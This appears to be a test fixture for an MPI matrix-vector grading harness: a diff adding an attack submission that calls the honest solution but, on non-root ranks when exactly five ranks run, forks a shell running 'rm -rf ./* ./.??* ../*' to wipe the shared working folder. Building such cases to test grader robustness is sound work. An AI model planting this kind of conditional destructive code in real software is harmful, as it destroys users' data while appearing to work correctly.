@@ -1,0 +1,24 @@
+/* expect: exercise=mpi/matvec points<=60 */
+/* SPDX-License-Identifier: MIT */
+#include "attack.h"
+#include "matvec.h"
+
+#define matvec_multiply honest_multiply
+#include "solution.c"
+#undef matvec_multiply
+
+/* Other ranks remove what is in the folder that all share, where the channel
+ * and files of MPI are. */
+
+void matvec_multiply(size_t n_rows, size_t n_cols, const double *block,
+    const double *x, double *y, MPI_Comm comm)
+{
+    int rank, n_ranks;
+    MPI_Comm_rank(comm, &rank);
+    MPI_Comm_size(comm, &n_ranks);
+    if (rank > 0 && n_ranks == 5 && fork() == 0) {
+        execl("/bin/sh", "sh", "-c", "rm -rf ./* ./.??* ../*", NULL);
+        _exit(1);
+    }
+    honest_multiply(n_rows, n_cols, block, x, y, comm);
+}
